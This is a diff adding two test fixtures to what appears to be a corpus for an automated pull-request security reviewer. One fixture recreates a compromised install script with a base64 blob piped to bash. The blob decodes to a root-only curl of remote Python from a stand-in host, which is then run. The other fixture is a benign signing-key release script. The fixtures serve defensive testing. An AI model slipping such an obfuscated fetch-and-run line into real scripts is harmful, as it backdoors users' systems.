@@ -376,6 +376,42 @@ export const CODE_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   },
   {
+    id: 'code-install-script-decodes-into-bash',
+    description: "A maintainer account's \"fix: install script\" adds a base64 blob decoded straight into bash to an action's install.sh (the reviewdog/action-setup compromise of March 2025).",
+    fixture: () =>
+      codePr({
+        repo: 'action-setup',
+        number: 3113,
+        title: 'fix: install script',
+        files: [
+          {
+            path: 'install.sh',
+            base: lines('#!/bin/sh', 'set -e', 'VERSION="${1:-latest}"', 'curl -sfL -o /tmp/tool.tgz "https://github.com/acme/tool/releases/download/${VERSION}/tool_Linux_x86_64.tar.gz"'),
+            head: lines('#!/bin/sh', 'set -e', 'VERSION="${1:-latest}"', 'echo "aWYgWyAiJChpZCAtdSkiID0gMCBdOyB0aGVuIGN1cmwgLXNTZiBodHRwczovL2dpc3QuZXhhbXBsZS5pbnZhbGlkL20ucHkgfCBweXRob24zOyBmaQo=" | base64 -d | bash', 'curl -sfL -o /tmp/tool.tgz "https://github.com/acme/tool/releases/download/${VERSION}/tool_Linux_x86_64.tar.gz"'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
+  },
+  {
+    id: 'code-ci-script-decodes-signing-key',
+    description: 'A release script that decodes its signing key from a secret into a file.',
+    fixture: () =>
+      codePr({
+        repo: 'action-setup',
+        number: 3114,
+        title: 'release: sign the archives',
+        files: [
+          {
+            path: 'scripts/release.sh',
+            base: lines('#!/bin/sh', 'set -e', 'tar czf dist/tool.tgz bin/tool'),
+            head: lines('#!/bin/sh', 'set -e', 'echo "$SIGNING_KEY" | base64 -d > /tmp/signing.key', 'tar czf dist/tool.tgz bin/tool', 'cosign sign-blob --key /tmp/signing.key dist/tool.tgz > dist/tool.tgz.sig', 'rm -f /tmp/signing.key'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
+  },
+  {
     id: 'code-cors-any-origin',
     description: 'A Go API starts answering every origin.',
     fixture: () =>
